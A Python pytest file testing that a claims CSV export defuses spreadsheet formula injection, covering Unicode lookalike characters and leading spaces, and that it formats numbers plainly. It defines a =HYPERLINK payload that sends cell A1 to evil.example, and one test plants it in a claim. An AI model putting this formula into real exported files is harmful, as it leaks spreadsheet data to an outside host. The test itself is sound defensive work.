"""claims.csv opens safely in a spreadsheet (no live formulas, plain numbers, UTF-8); claims.json stays raw."""

from __future__ import annotations

import csv
import io
import json
import sys
import unicodedata
from pathlib import Path

import pytest

from conftest import apply_edits
from dossier.link.check import check_dossier
from dossier.render.exports import claims_csv, claims_json, csv_number, csv_text

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for source")'


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("+1+2", "'+1+2"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\tindented", "'\tindented"),
        ("\rreturn", "'\rreturn"),
        ("a = b", "a = b"),
        ("'quoted'", "'quoted'"),
        ("", ""),
    ],
)
def test_formula_like_text_cells_get_a_leading_quote(text: str, cell: str) -> None:
    assert csv_text(text) == cell


# Every character a spreadsheet may read as the start of a formula: the OWASP list, and each
# character whose compatibility form (NFKC) starts with one of = + - @ (full-width, small, super-
# and subscript forms).
FORMULA_STARTS = "=+-@\t\r\n" + "⁺⁼₊₌⩵⩶﬩﹢﹣﹦﹫＋－＝＠"
LEADING = ["", " ", "\u00a0", "  \u00a0", "\u3000", "\u2007\u202f", "\u00a0" * 40]


def test_the_formula_starts_are_every_character_that_normalises_to_one() -> None:
    normalised = {chr(c) for c in range(sys.maxunicode + 1) if unicodedata.normalize("NFKC", chr(c))[:1] in "=+-@"}
    assert normalised | set("\t\r\n") == set(FORMULA_STARTS)


@pytest.mark.parametrize("leading", LEADING, ids=[ascii(x) for x in LEADING])
@pytest.mark.parametrize("start", FORMULA_STARTS, ids=[f"U+{ord(c):04X}" for c in FORMULA_STARTS])
def test_every_formula_start_gets_a_quote_after_any_leading_space(start: str, leading: str) -> None:
    text = leading + start + "HYPERLINK(1)"
    if start in "\t\r\n" and leading:
        assert csv_text(text) == text  # a space starts the cell: nothing for a spreadsheet to run
    else:
        assert csv_text(text) == "'" + text


@pytest.mark.parametrize("text", ["≠ 3", "a = b", "1 - 2", "\u00a8=1", "‐1 (a hyphen)", "−1 (a minus sign)", " "])
def test_text_that_cannot_start_a_formula_stays_as_it_is(text: str) -> None:
    assert csv_text(text) == text


def test_a_combining_mark_after_the_equals_sign_does_not_hide_it() -> None:
    assert csv_text(" =\u0338SUM(A1)") == "' =\u0338SUM(A1)"  # NFKC makes "=" and the mark one "≠"


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (12000000, "12000000"),
        (1.4e12, "1400000000000"),
        (1400000000000.0, "1400000000000"),
        (11.5, "11.5"),
        (-3.25, "-3.25"),
        (1e-7, "0.0000001"),
        (1.5e20, "150000000000000000000"),
        (-0.0, "0"),
        (None, ""),
    ],
)
def test_numbers_are_written_as_a_spreadsheet_expects(value: float | None, cell: str) -> None:
    assert csv_number(value) == cell


def test_csv_of_a_hostile_claim(dossier_dir: Path) -> None:
    apply_edits(
        dossier_dir,
        {
            "ferry-budget.yaml": [
                (
                    "claim: Harbourville will spend €12 million on four electric ferries by 2027.",
                    f"claim: '{HYPERLINK}'",
                ),
                ("  value: 12000000", "  value: 1.4e+12\n  checked_value: 1.25e+3"),
                ("  conclusion: |\n    The council's", "  conclusion: |\n    @SUM(A1) The council's"),
            ],
        },
    )
    _, index, problems = check_dossier(str(dossier_dir))
    assert problems == []
    text = claims_csv(index)
    assert text.startswith("\ufeffid,article,kind,claim,")
    row = next(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))
    assert row["id"] == "ferry-budget"
    assert row["claim"] == "'" + HYPERLINK
    assert (
        row["conclusion"]
        == "'@SUM(A1) The council's minutes record a budget of €12 million\nfor four ferries, delivered by 2027.\n"
    )
    assert (row["figure_value"], row["figure_checked_value"], row["figure_high"]) == ("1400000000000", "1250", "")
    assert row["figure_stated"] == "€12 million"
    raw = json.loads(claims_json(index))["claims"][0]
    assert (raw["claim"], raw["figure"]["value"], raw["figure"]["checked_value"]) == (HYPERLINK, 1.4e12, 1250.0)
    assert raw["verdict"]["conclusion"].startswith("@SUM(A1) ")
